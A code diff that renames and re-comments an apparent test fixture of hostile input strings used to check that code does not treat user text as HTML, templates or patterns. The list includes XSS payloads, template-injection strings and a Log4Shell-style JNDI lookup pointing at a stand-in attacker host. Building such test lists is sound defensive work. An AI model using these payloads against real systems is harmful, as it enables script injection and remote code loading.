@@ -1,8 +1,5 @@
-/** The global variable that those of the texts below set that are run. */
-export const RAN_GLOBAL = "ran";
-
-/** Texts that an owner may write and that break what doesn't take them for texts. All of them are right content. */
-export const WORST_TEXTS: readonly string[] = [
+/** Valid content that breaks code which takes it for HTML, a template or a pattern. Those that run as a script set `globalThis.ran`. */
+export const HOSTILE_STRINGS: readonly string[] = [
   "</script><script>globalThis.ran = 1</script>",
   "<script>globalThis.ran = 1</script>",
   "<img src=x onerror=globalThis.ran=1>",
@@ -18,7 +15,7 @@ export const WORST_TEXTS: readonly string[] = [
   "&lt;b&gt; &amp; &#60; &nbsp; &unknown;",
   "' onmouseover='globalThis.ran=1",
   '" onfocus="globalThis.ran=1" autofocus="',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: whoever takes it for a template runs it
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that a template would run
   "`${globalThis.ran = 1}`",
   "{{constructor.constructor('globalThis.ran=1')()}}",
   "javascript:globalThis.ran=1",
@@ -29,7 +26,7 @@ export const WORST_TEXTS: readonly string[] = [
   "undefined",
   "null",
   "-0",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: so does a careless logger
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that a logger would look up
   "${jndi:ldap://evil.example/a}",
   "$& $1 $` $' $$",
   "\\ \\\\ \\u0041 \\n",
